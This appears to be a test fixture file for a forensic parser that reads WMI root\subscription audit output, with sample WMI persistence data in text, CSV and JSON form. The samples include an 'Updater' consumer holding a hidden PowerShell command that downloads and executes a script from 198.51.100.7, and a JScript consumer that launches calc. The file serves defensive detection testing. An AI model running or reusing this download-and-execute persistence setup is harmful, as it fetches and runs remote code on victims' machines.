/** Shared test fixtures: root\subscription audit output as PowerShell writes it. */
import type { EvidenceInput } from '../../../../main/ingest/evidence-parser';
import { wmiAuditParser } from '../../../../main/ingest/formats/wmi-audit';
import type { NormalizedEvent } from '../../../../shared/model/event';

/** `Get-WmiObject -Namespace root\subscription -Class __EventFilter | Format-List *` style output. */
export const AUDIT_TEXT = `

__GENUS          : 2
__CLASS          : __EventFilter
__SUPERCLASS     : __IndicationRelated
__DYNASTY        : __SystemClass
__RELPATH        : __EventFilter.Name="SCM Event Log Filter"
__PROPERTY_COUNT : 6
__DERIVATION     : {__IndicationRelated, __SystemClass}
__SERVER         : WS01
__NAMESPACE      : ROOT\\subscription
__PATH           : \\\\WS01\\ROOT\\subscription:__EventFilter.Name="SCM Event Log Filter"
CreatorSID       : {1, 2, 0, 0...}
EventAccess      :
EventNamespace   : root\\cimv2
Name             : SCM Event Log Filter
Query            : select * from MSFT_SCMEventLogEvent
QueryLanguage    : WQL
PSComputerName   : WS01

__GENUS          : 2
__CLASS          : __EventFilter
__RELPATH        : __EventFilter.Name="Updater"
__SERVER         : WS01
__NAMESPACE      : ROOT\\subscription
EventNamespace   : root\\cimv2
Name             : Updater
Query            : SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormatt
                   edData_PerfOS_System' AND TargetInstance.SystemUpTime >= 200
QueryLanguage    : WQL
PSComputerName   : WS01

__GENUS               : 2
__CLASS               : CommandLineEventConsumer
__RELPATH             : CommandLineEventConsumer.Name="Updater"
__SERVER              : WS01
__NAMESPACE           : ROOT\\subscription
CommandLineTemplate   : powershell.exe -NoP -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/u')"
ExecutablePath        :
Name                  : Updater
WorkingDirectory      :
PSComputerName        : WS01

__GENUS          : 2
__CLASS          : __FilterToConsumerBinding
__RELPATH        : __FilterToConsumerBinding.Consumer="CommandLineEventConsumer.Name=\\"Updater\\"",Filter="__EventFilter.Name=\\"Updater\\""
__SERVER         : WS01
Consumer         : CommandLineEventConsumer.Name="Updater"
Filter           : __EventFilter.Name="Updater"
PSComputerName   : WS01
`;

export const AUDIT_CSV = `#TYPE System.Management.ManagementObject#root\\subscription\\NTEventLogEventConsumer
"__GENUS","__CLASS","__SERVER","Name","SourceName","EventID","InsertionStringTemplates","PSComputerName"
"2","NTEventLogEventConsumer","WS02","SCM Event Log Consumer","Service Control Manager","0","System.String[]","WS02"
`;

export const AUDIT_JSON = JSON.stringify([
  {
    Name: 'Upd',
    ScriptingEngine: 'JScript',
    ScriptText: 'var s=new ActiveXObject("WScript.Shell");s.Run("cmd /c calc",0);',
    PSComputerName: 'WS03',
    CimClass: 'root/subscription:ActiveScriptEventConsumer',
    CimSystemProperties: { Namespace: 'root/subscription', ServerName: 'WS03', ClassName: 'ActiveScriptEventConsumer', Path: null },
  },
  {
    Filter: { Name: 'UpdF', CimSystemProperties: { ClassName: '__EventFilter' } },
    Consumer: { Name: 'Upd', CimSystemProperties: { ClassName: 'ActiveScriptEventConsumer' } },
    PSComputerName: 'WS03',
    CimSystemProperties: { Namespace: 'root/subscription', ServerName: 'WS03', ClassName: '__FilterToConsumerBinding', Path: null },
  },
]);

export async function parseAudit(text: string, encoding: BufferEncoding = 'utf8', bom = false): Promise<{ events: NormalizedEvent[]; errors: string[]; rejected: number }> {
  let bytes = Buffer.from(text, encoding);
  if (bom) bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), bytes]);
  const events: NormalizedEvent[] = [];
  const errors: string[] = [];
  let rejected = 0;
  const input: EvidenceInput = {
    sourceId: 7,
    path: '/evidence/audit.txt',
    size: bytes.length,
    stream: async function* () {
      yield bytes.subarray(0, 100);
      yield bytes.subarray(100);
    },
  };
  await wmiAuditParser.parse(input, { accept: (e) => events.push(e), reject: () => rejected++, error: (m) => errors.push(m), progress: () => {} });
  return { events, errors, rejected };
}

